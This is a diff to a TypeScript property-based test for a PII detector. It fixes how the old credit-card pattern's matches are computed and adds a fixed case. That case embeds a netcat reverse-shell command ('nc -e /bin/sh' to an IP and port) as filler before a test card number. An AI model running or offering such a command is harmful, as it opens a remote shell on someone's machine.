@@ -184,16 +184,28 @@ describe('PII patterns with the lookbehind after the first character', () => {
     '_',
   ];
 
-  it('finds the cards the old pattern finds', () => {
+  it('finds the cards the old pattern finds, also those a failed candidate hid', () => {
+    // The old pattern's scan, resumed right after a candidate that fails the card checks (a plain
+    // matchAll resumes after it and missed a card starting inside it).
+    const oldCards = (text: string): Array<[number, string]> => {
+      const re = new RegExp(OLD_CARD.source, 'g');
+      const out: Array<[number, string]> = [];
+      for (let m = re.exec(text); m !== null; m = re.exec(text)) {
+        if (cardValid(m[0].replace(/\D/g, ''))) out.push([m.index, m[0]]);
+        else re.lastIndex = m.index + 1;
+      }
+      return out;
+    };
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...CARD_GROUPS), { maxLength: 16 }), (parts) => {
         const text = parts.join('');
-        const want = [...text.matchAll(OLD_CARD)].filter((m) => cardValid(m[0].replace(/\D/g, '')));
         const got = findLocalPii(text).filter((m) => m.kind === 'CREDIT_DEBIT_NUMBER');
-        expect(got.map((m) => [m.start, m.value])).toEqual(want.map((m) => [m.index, m[0]]));
+        expect(got.map((m) => [m.start, m.value])).toEqual(oldCards(text));
       }),
       { numRuns: 5000 },
     );
+    const hidden = 'nc -e /bin/sh 203.0.113.7 4444 4111 1111 1111 1111';
+    expect(findLocalPii(hidden).map((m) => m.value)).toEqual(['4111 1111 1111 1111']);
   });
 
   it('finds the e-mail addresses the old pattern finds', () => {
